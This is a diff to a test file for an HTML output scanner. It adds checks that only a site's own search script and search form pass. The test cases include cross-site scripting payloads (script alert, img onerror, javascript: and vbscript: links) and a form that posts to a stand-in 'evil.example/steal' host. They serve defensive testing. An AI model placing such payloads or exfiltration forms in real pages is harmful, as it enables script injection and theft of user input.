@@ -8,9 +8,17 @@ describe("output scan", () => {
       scanHtml('<html><head><script type="application/ld+json">{"a":1}</script></head><body><a href="https://wa.me/62812?text=x">x</a><img src="/img/a.jpeg" srcset="/img/a.jpeg 320w, /img/b.jpeg 640w" alt=""></body></html>'),
     ).toEqual([]);
   });
+  it("accepts the site's own search script and search form, and only those", () => {
+    const owned = { scripts: new Set(["/assets/search.js"]), formActions: new Set(["/cari/"]) };
+    expect(scanHtml('<html><body><form action="/cari/" method="get"><input name="q"></form><script type="module" src="/assets/search.js"></script></body></html>', owned)).toEqual([]);
+    expect(scanHtml('<html><body><script type="module" src="/assets/other.js"></script></body></html>', owned)).toEqual(['<script src="/assets/other.js">']);
+  });
   it.each([
     ["<script>alert(1)</script>", "<script> without an allowed type"],
-    ['<script type="module" src="/x.js"></script>', "<script> without an allowed type"],
+    ['<script type="module" src="/x.js"></script>', '<script src="/x.js">'],
+    ['<script type="module" src="/assets/search.js">alert(1)</script>', '<script src="/assets/search.js">'],
+    ['<form action="https://evil.example/steal" method="post"><input name="p"></form>', '<form action="https://evil.example/steal">'],
+    ['<form action="/cari/" method="post"></form>', '<form action="/cari/">'],
     ['<img src="x" onerror="alert(1)">', "onerror= attribute on <img>"],
     ['<a href="JavaScript:alert(1)">x</a>', 'href="JavaScript:alert(1)" on <a>'],
     ['<a href=" vbscript:msgbox(1)">x</a>', 'href=" vbscript:msgbox(1)" on <a>'],
